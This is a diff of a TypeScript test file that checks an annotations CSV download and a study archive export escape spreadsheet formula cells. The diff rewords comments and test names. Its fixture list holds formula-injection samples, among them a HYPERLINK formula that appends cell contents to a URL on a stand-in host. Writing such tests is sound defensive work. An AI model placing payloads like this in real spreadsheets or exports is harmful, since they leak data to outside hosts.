@@ -8,7 +8,7 @@ import { unpackStudyExport } from '../../testing/test-study-export.ts';
 import { csvRows } from '../../testing/zip-contents.ts';
 
 const FORMULAS = ['=HYPERLINK("http://x.example?"&A1)', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '＝1+1'];
-/** What a cell may begin with and still be no formula. */
+/** Beginnings of cells that are not formulas. */
 const NUMBERS = ['-1.5', '+3', '-1e-7'];
 
 let api: TestApi;
@@ -25,11 +25,11 @@ beforeAll(async () => {
 });
 afterAll(async () => await api.close());
 
-/** Cells that a spreadsheet runs. */
+/** Cells that a spreadsheet evaluates as formulas. */
 const run = (rows: string[][]) =>
   rows.flat().filter((cell) => /^[=+\-@\t\r＝]/.test(cell) && !NUMBERS.includes(cell) && !/^[+-]\d\d:\d\d$/.test(cell));
 
-it('the annotations download holds no cell that a spreadsheet runs, and reads back word for word', async () => {
+it('escapes formula cells in the annotations CSV, which reads back unchanged', async () => {
   const params = { studyId: api.studyId, subjectId: api.subjectIds[0]! };
   const csv = await (await api.client.fetch('downloadAnnotationsCsv', { params })).text();
   const [header, ...rows] = csvRows(csv);
@@ -56,7 +56,7 @@ it('the annotations download holds no cell that a spreadsheet runs, and reads ba
   expect(labels.map(({ value }) => value)).toEqual([...FORMULAS, ...NUMBERS]);
 });
 
-it('no table of the study archive holds such a cell', async () => {
+it('escapes formula cells in every table of the study archive', async () => {
   const source = { store: api.store, signalsDir: api.deps.signalsDir };
   const folder = temporaryFolder();
   const { members } = await unpackStudyExport(writeStudyArchive, source, folder.path, { studyId: api.studyId });
